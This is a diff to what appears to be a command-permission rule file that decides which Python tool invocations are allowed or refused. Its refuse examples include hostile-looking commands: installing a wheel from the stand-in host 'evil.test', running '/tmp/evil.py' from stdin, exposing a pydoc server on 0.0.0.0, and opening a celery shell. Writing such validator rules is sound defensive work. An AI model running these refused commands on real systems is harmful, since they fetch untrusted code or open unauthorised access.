@@ -36,6 +36,7 @@ def _python(name: str) -> Rule:
             f"{name} -m timeit -s 'x'",
             f"{name} -m pdb -c '!x' y",
             f"{name} /tmp/evil.py",
+            f"{name} < /tmp/evil.py",
             name,
             f"{name} -m pip install http://evil.test/x.whl",
             f"{name} ../x.py",
@@ -44,7 +45,7 @@ def _python(name: str) -> Rule:
     )
 
 
-_OPEN_MODULES = "unittest compileall py_compile doctest cProfile tabnanny build pydoc trace"
+_OPEN_MODULES = "unittest compileall py_compile doctest tabnanny build"
 
 
 def _module(name: str, flags: str = "", operands: str = "", *, run: bool = False) -> Rule:
@@ -64,6 +65,22 @@ _MODULES: tuple[Rule, ...] = (
     *(
         tool(f"-m {name}", allows=f"python -m {name} src", refuses=f"python -m {name} /etc/x")
         for name in _OPEN_MODULES.split()
+    ),
+    # What they run is judged as if it stood alone.
+    *(
+        tool(
+            f"-m {name}",
+            flags="-m=module! --module=module!",
+            allows=f"python -m {name} -m pytest -q",
+            refuses=f"python -m {name} -m no_such_module",
+        )
+        for name in ("cProfile", "trace")
+    ),
+    tool(
+        "-m pydoc",
+        never=f"{NEVER} -p -n -b",
+        allows="python -m pydoc json",
+        refuses="python -m pydoc -p 8000 -n 0.0.0.0",
     ),
     _module(
         "venv",
@@ -111,8 +128,9 @@ RULES: tuple[Rule, ...] = (
     *(tool(name, flags=_PYTEST, refuses=f"{name} -p evil") for name in ("pytest", "py.test")),
     *(
         tool(name, never=f"{NEVER} -D", refuses=f"{name} -D app:app")
-        for name in ("gunicorn", "hypercorn", "celery")
+        for name in ("gunicorn", "hypercorn")
     ),
+    tool("celery", flags="-A=name --app=name", never=f"{NEVER} -D", refuses="celery -A app shell"),
     tool("pylint", never=f"{NEVER} --init", refuses="pylint --init 'import os' src"),
     tool("tox", never="-x --override --runner exec", refuses="tox --override=x"),
     tool("flask", check="manage", refuses="flask shell"),
